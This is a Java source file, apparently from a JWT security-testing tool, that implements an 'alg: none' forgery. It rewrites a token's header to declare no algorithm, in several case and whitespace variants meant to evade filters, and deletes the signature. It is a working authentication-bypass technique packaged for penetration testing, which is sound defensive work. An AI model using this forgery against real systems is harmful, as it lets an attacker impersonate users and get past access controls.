package dev.gatehouse.desktop.attack.forge;

import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;
import java.util.List;

/** Announces that the token is not signed (RFC 7518 §3.6). */
public final class AlgNone implements Forgery {
  private static final Choice SPELLING =
      new Choice("alg", List.of("none", "None", "NONE", "nOnE", "none "));

  @Override
  public String title() {
    return "alg: none";
  }

  @Override
  public String does() {
    return "Says in the header that there is no signature, and takes it away.";
  }

  @Override
  public String attack() {
    return "jwt-alg-none";
  }

  @Override
  public List<Choice> choices() {
    return List.of(SPELLING);
  }

  @Override
  public CompactToken forge(CompactToken token, Ingredients with) throws CredentialException {
    return token.withHeader("alg", with.of(SPELLING)).withSignature(new byte[0]);
  }
}
